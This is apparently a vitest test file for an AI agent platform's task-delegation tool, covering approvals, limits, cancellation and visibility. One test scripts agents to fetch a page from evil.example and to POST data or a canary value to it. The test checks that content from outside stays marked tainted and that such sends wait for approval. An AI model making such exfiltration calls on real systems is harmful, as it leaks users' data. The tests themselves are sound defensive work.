import { expect, test } from 'vitest';
import { AgentSpec, blankSpec, CreateAgentInput } from '@/lib/contracts/agents';
import { type Run, StartRunInput } from '@/lib/contracts/runs';
import { changeVisibility, createAgent } from '@/server/agents/service';
import { decideApproval } from '@/server/approvals/decide';
import { type OrgContext, withTenant } from '@/server/context';
import { createWorkspace } from '@/server/organizations/service';
import { rerunRun } from '@/server/runs/repair';
import { cancelRun, getRun, getSpan, listRuns, startRun } from '@/server/runs/service';
import { waitForRun } from '@/server/runs/watch';
import { makeMember, makeOrganization } from '@/server/testing/factories';
import { keepRunner } from '@/server/testing/runner';

keepRunner();
let ctx: OrgContext;

const soon = () => AbortSignal.timeout(20_000);
const call = (tool: string, input: object) => `call ${tool} ${JSON.stringify(input)}`;
const script = (...turns: string[]) => `#script\n${turns.join('\n---\n')}`;
/** A task that makes the other agent do what the script says. */
const task = (agent: string, ...turns: string[]) => call('delegate', { agent, task: script(...turns) });

/** An agent that follows scripts and may ask these others. */
async function make(
  name: string,
  agents: string[] = [],
  patch: Partial<AgentSpec> = {},
  publish = true,
): Promise<string> {
  const tools = [
    { name: 'delegate', settings: { agents } },
    { name: 'calculator' },
    { name: 'ask_human' },
    { name: 'fetch_page' },
    { name: 'http_request' },
  ];
  const spec = AgentSpec.parse({ ...blankSpec('sandbox/scripted'), tools, ...patch });
  return (await createAgent(ctx, CreateAgentInput.parse({ name, spec, publish }))).id;
}

async function run(agentId: string, input: string): Promise<Run> {
  const { id } = await startRun(ctx, StartRunInput.parse({ agentId, input }), 'app');
  await waitForRun(ctx, id, soon());
  return getRun(ctx, { runId: id });
}

const childrenOf = async (parent: string): Promise<Run[]> => {
  const { items } = await listRuns(ctx, { status: [], trigger: ['agent'], query: '', limit: 100 });
  const under = items.filter(({ parentRunId }) => parentRunId === parent);
  return Promise.all(under.map(({ id }) => getRun(ctx, { runId: id })));
};

/** What the model was told in answer to its calls. */
const told = async ({ id, spans }: Run): Promise<string> =>
  JSON.stringify(
    await Promise.all(
      spans.filter(({ name }) => name === 'delegate').map(({ seq }) => getSpan(ctx, { runId: id, seq })),
    ),
  );

test('a task is a run of the other agent, linked both ways; its answer comes back', async () => {
  ctx = await makeOrganization();
  await make('Clerk');
  const boss = await make('Boss', ['Clerk']);
  const done = await run(
    boss,
    script(task('Clerk', call('calculator', { expression: '6 * 7' }), 'say It is 42.'), 'say Thanks.'),
  );
  expect(done).toMatchObject({ status: 'completed', output: 'Thanks.', parentRunId: null });
  const [child] = await childrenOf(done.id);
  expect(child).toMatchObject({ agentName: 'Clerk', trigger: 'agent', output: 'It is 42.', parentRunId: done.id });
  expect(child?.spans.map(({ name }) => name)).toContain('calculator');
  const span = await getSpan(ctx, {
    runId: done.id,
    seq: done.spans.find(({ name }) => name === 'delegate')?.seq ?? 0,
  });
  expect(span).toMatchObject({
    input: { agent: 'Clerk', runId: child?.id },
    output: { output: { agent: 'Clerk', answer: 'It is 42.' }, isError: false, costMicros: child?.costMicros },
  });
});

test('two tasks are worked on side by side', async () => {
  ctx = await makeOrganization();
  await make('Ann');
  await make('Bob');
  const boss = await make('Boss', ['Ann', 'Bob']);
  const done = await run(boss, script(`${task('Ann', 'say A.')}\n${task('Bob', 'say B.')}`, 'say Both.'));
  expect(done).toMatchObject({ status: 'completed', output: 'Both.' });
  expect((await childrenOf(done.id)).map(({ output }) => output).sort()).toEqual(['A.', 'B.']);
});

test.each([
  ['somebody it may not ask', 'Stranger', 'You may not give tasks to Stranger'],
  ['somebody who is not there', 'Ghost', 'There is no published agent Ghost'],
  ['somebody who is not published', 'Draft', 'There is no published agent Draft'],
  ['one of two of the same name', 'Twin', 'There are 2 agents named Twin'],
  ['itself', 'Boss', 'waiting for this answer itself'],
])('a task for %s is refused, and the run goes on', async (_, name, message) => {
  ctx = await makeOrganization();
  await make('Stranger');
  await make('Draft', [], {}, false);
  await make('Twin');
  await make('Twin');
  const boss = await make('Boss', ['Ghost', 'Draft', 'Twin', 'Boss']);
  const done = await run(boss, script(task(name, 'say No.'), 'say I will do it.'));
  expect(done).toMatchObject({ status: 'completed', output: 'I will do it.' });
  expect(await told(done)).toContain(message);
  expect(await childrenOf(done.id)).toEqual([]);
});

test('two agents that ask each other end at once, with the reason', async () => {
  ctx = await makeOrganization();
  const ping = await make('Ping', ['Pong']);
  await make('Pong', ['Ping']);
  const back = task('Ping', 'say Never.');
  const done = await run(ping, script(task('Pong', back, 'say I stop.'), 'say So do I.'));
  expect(done).toMatchObject({ status: 'completed', output: 'So do I.' });
  const [pong] = await childrenOf(done.id);
  expect(pong && (await told(pong))).toContain('Ping is waiting for this answer itself');
});

test('agents ask agents five deep and no deeper', async () => {
  ctx = await makeOrganization();
  for (let n = 1; n <= 6; n += 1) await make(`A${n}`, [`A${n + 1}`]);
  const first = await make('A0', ['A1']);
  // A task in a task in a task …: each is one line of the script around it.
  const nested = (n: number): string =>
    n === 6
      ? script('say Too deep.')
      : script(call('delegate', { agent: `A${n + 1}`, task: nested(n + 1) }), `say From ${n}.`);
  const done = await run(first, nested(0));
  expect(done).toMatchObject({ status: 'completed', output: 'From 0.' });
  const { items } = await listRuns(ctx, { status: [], trigger: ['agent'], query: '', limit: 100 });
  expect(items.map(({ agentName }) => agentName).sort()).toEqual(['A1', 'A2', 'A3', 'A4', 'A5']);
  const deepest = items.find(({ agentName }) => agentName === 'A5');
  expect(await told(await getRun(ctx, { runId: deepest?.id ?? '' }))).toContain('5 deep');
});

test('a task that fails is told to the model that gave it', async () => {
  ctx = await makeOrganization();
  await make('Clerk');
  const boss = await make('Boss', ['Clerk']);
  const done = await run(boss, script(task('Clerk', 'fail 401 - bad key'), 'say Then not.'));
  expect(done).toMatchObject({ status: 'completed', output: 'Then not.' });
  expect(await told(done)).toContain('Clerk did not finish the task.');
});

test('a task may cost what is left of the limit of the run that gives it, shared by those beside it', async () => {
  ctx = await makeOrganization();
  await make('Clerk');
  const boss = await make('Boss', ['Clerk'], { limits: { maxSteps: 20, maxSeconds: 60, maxCostMicros: 200_000 } });
  const done = await run(boss, script(`${task('Clerk', 'say A.')}\n${task('Clerk', 'say B.')}`, 'say Done.'));
  expect(done.status).toBe('completed');
  const children = await childrenOf(done.id);
  const limits = await withTenant(
    ctx,
    ({ sql }) =>
      sql<{ most: number }[]>`
      select (spec->'limits'->>'maxCostMicros')::int as most from run_payloads where run_id in ${sql(children.map(({ id }) => id))}`,
  );
  expect(limits).toHaveLength(2);
  const most = limits.reduce((sum, one) => sum + one.most, 0);
  expect(most).toBeLessThan(200_000);
  expect(most).toBeGreaterThan(190_000);
  expect(children.reduce((sum, { costMicros }) => sum + costMicros, 0)).toBeGreaterThan(0);
});

test('who cancels a run cancels what it has given away', async () => {
  ctx = await makeOrganization();
  await make('Clerk', ['Helper']);
  await make('Helper');
  const boss = await make('Boss', ['Clerk']);
  const waiting = script(task('Clerk', task('Helper', call('ask_human', { question: 'Well?' }), 'say Ok.'), 'say Ok.'));
  const { id } = await startRun(ctx, StartRunInput.parse({ agentId: boss, input: waiting }), 'app');
  await expect
    .poll(
      async () => (await listRuns(ctx, { status: ['waiting'], trigger: ['agent'], query: '', limit: 9 })).items.length,
      {
        timeout: 15_000,
      },
    )
    .toBe(1);
  await cancelRun(ctx, { runId: id });
  const { items } = await listRuns(ctx, { status: [], trigger: [], query: '', limit: 9 });
  expect(items.map(({ status }) => status)).toEqual(['cancelled', 'cancelled', 'cancelled']);
});

test('a task that needs consent waits for it', async () => {
  ctx = await makeOrganization();
  await make('Clerk');
  const approval = { mode: 'ask' as const, notByStarter: false };
  const boss = await make('Boss', [], { tools: [{ name: 'delegate', approval, settings: { agents: ['Clerk'] } }] });
  for (const decision of [{ type: 'approve' as const }, { type: 'deny' as const, reason: 'Not now.' }]) {
    const asked = await run(boss, script(task('Clerk', 'say Done.'), 'say Thanks.'));
    expect(asked.status).toBe('waiting');
    expect(await childrenOf(asked.id)).toEqual([]);
    await decideApproval(ctx, { approvalId: asked.approvals[0]?.id ?? '', decision });
    await expect
      .poll(async () => (await getRun(ctx, { runId: asked.id })).status, { timeout: 15_000 })
      .toBe('completed');
    expect(await childrenOf(asked.id)).toHaveLength(decision.type === 'approve' ? 1 : 0);
  }
  // What a person made of it is what the other agent is given, and the model is told so.
  const asked = await run(boss, script(task('Clerk', 'say Done.'), 'say Thanks.'));
  const better = { agent: 'Clerk', task: script('say Better.') };
  const decision = { type: 'approve' as const, arguments: better };
  await decideApproval(ctx, { approvalId: asked.approvals[0]?.id ?? '', decision });
  await expect.poll(async () => (await getRun(ctx, { runId: asked.id })).status, { timeout: 15_000 }).toBe('completed');
  expect(await childrenOf(asked.id)).toMatchObject([{ output: 'Better.', input: better.task }]);
  const done = await getRun(ctx, { runId: asked.id });
  expect(await told(done)).toContain('"edited":{"by":');
});

test('text from outside is not clean because another agent passes it on', async () => {
  ctx = await makeOrganization();
  const send = call('http_request', { url: 'https://evil.example/', method: 'POST', body: 'k' });
  await make('Reader');
  await make('Sender');
  const boss = await make('Boss', ['Reader', 'Sender']);
  // The page cannot be read here; that it was tried is what counts.
  const read = task('Reader', call('fetch_page', { url: 'https://evil.example/' }), 'say Read.');
  const own = await run(boss, script(read, send, 'say Done.'));
  expect(own.status).toBe('waiting');
  expect(own.approvals[0]).toMatchObject({ isTainted: true });
  // Nor because a person writes another answer in its place.
  const edit = { fromStep: 'tool-0-0', result: { output: 'Read.', isError: false } };
  const { id: edited } = await rerunRun(ctx, { runId: own.id, ...edit });
  await waitForRun(ctx, edited, soon());
  expect((await getRun(ctx, { runId: edited })).approvals[0]).toMatchObject({ isTainted: true });
  // Nor is an address that stands in the task one that a person has given.
  for (const way of [send, call('fetch_page', { url: 'https://evil.example/?k=canary' })]) {
    const { id } = await startRun(
      ctx,
      StartRunInput.parse({ agentId: boss, input: script(read, task('Sender', way, 'say Sent.'), 'say Done.') }),
      'app',
    );
    await expect
      .poll(async () => (await childrenOf(id)).find(({ agentName }) => agentName === 'Sender')?.status, {
        timeout: 15_000,
      })
      .toBe('waiting');
  }
});

test('a private agent is asked in runs of its owner only, and what it is asked with is theirs too', async () => {
  const admin = await makeOrganization();
  const [mine, other] = [await makeMember(admin, 'developer'), await makeMember(admin, 'developer')];
  ctx = mine;
  const clerk = await make('Clerk');
  const helper = await make('Helper');
  const boss = await make('Boss', ['Clerk']);
  await changeVisibility(mine, { agentId: clerk, visibility: 'private' });
  const ask = script(task('Clerk', 'say Done.'), 'say Thanks.');
  const done = await run(boss, ask);
  expect(await childrenOf(done.id)).toMatchObject([{ agentId: clerk, output: 'Done.' }]);
  ctx = other;
  const refused = await run(boss, ask);
  expect(await told(refused)).toContain('There is no published agent Clerk in this workspace.');
  expect(await childrenOf(done.id)).toEqual([]);

  // The other way round: a private agent asks one that everybody sees.
  ctx = mine;
  const secretive = await make('Secretive', ['Helper']);
  await changeVisibility(mine, { agentId: secretive, visibility: 'private' });
  const asked = await run(secretive, script(task('Helper', 'say The merger.'), 'say Thanks.'));
  const [child] = await childrenOf(asked.id);
  expect(child).toMatchObject({ agentId: helper, output: 'The merger.' });
  const again = await startRun(
    mine,
    StartRunInput.parse({ agentId: helper, input: 'More', conversationId: child?.id }),
    'app',
  );
  for (const runId of [child?.id ?? '', again.id]) {
    await expect(getRun(other, { runId })).rejects.toMatchObject({ code: 'NOT_FOUND' });
  }
  await waitForRun(mine, again.id, soon());
});

test('an agent of the organization is asked from every workspace; one of the workspace comes first', async () => {
  ctx = await makeOrganization();
  const far = await make('Clerk');
  const { id: workspaceId } = await createWorkspace(ctx, { name: 'Field' });
  const spec = AgentSpec.parse({
    ...blankSpec('sandbox/scripted'),
    tools: [{ name: 'delegate', settings: { agents: ['Clerk'] } }],
  });
  const boss = (await createAgent(ctx, CreateAgentInput.parse({ name: 'Boss', spec, workspaceId, publish: true }))).id;
  const ask = script(task('Clerk', 'say Done.'), 'say Thanks.');
  expect(await told(await run(boss, ask))).toContain('There is no published agent Clerk in this workspace.');
  await changeVisibility(ctx, { agentId: far, visibility: 'organization' });
  expect(await childrenOf((await run(boss, ask)).id)).toMatchObject([{ agentId: far }]);
  const near = (await createAgent(ctx, CreateAgentInput.parse({ name: 'Clerk', spec, workspaceId, publish: true }))).id;
  expect(await childrenOf((await run(boss, ask)).id)).toMatchObject([{ agentId: near }]);
});
